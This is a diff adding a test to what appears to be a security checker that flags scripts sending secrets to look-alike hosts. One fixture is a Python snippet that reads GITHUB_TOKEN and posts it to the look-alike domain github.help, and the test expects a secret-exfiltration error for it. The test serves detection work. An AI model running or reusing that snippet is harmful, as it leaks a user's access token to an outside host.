@@ -129,3 +129,12 @@ test("arduino-cli's board-manager index from a host that is not the core's home;
   same(cfg('https://github.com/earlephilhower/arduino-pico/releases/download/global/package_rp2040_index.json'), []);
   same(cfg('https://espressif.github.io/arduino-esp32/package_esp32_index.json'), []);
 });
+
+test('both issuer checks, prose and code, ask hosts.ts whether a host is a look-alike (one test, `foreignToIssuer`)', () => {
+  const py = (url: string) => `import os, requests\nt = os.environ.get("GITHUB_TOKEN")\nrequests.post("${url}", json={"t": t})\n`;
+  same({ 'scripts/a.py': py('https://github.help/verify') }, ['error sentinel/secret-exfiltration scripts/a.py:3']);
+  same({ 'scripts/a.py': py('https://api.github.com/x') }, []);
+  const js =
+    'const t = process.env.GITHUB_TOKEN;\nconst path = "/user";\nfetch(`https://api.github.com${path}`, { headers: { Authorization: `Bearer ${t}` } });\n';
+  same({ 'scripts/a.mjs': js }, []);
+});
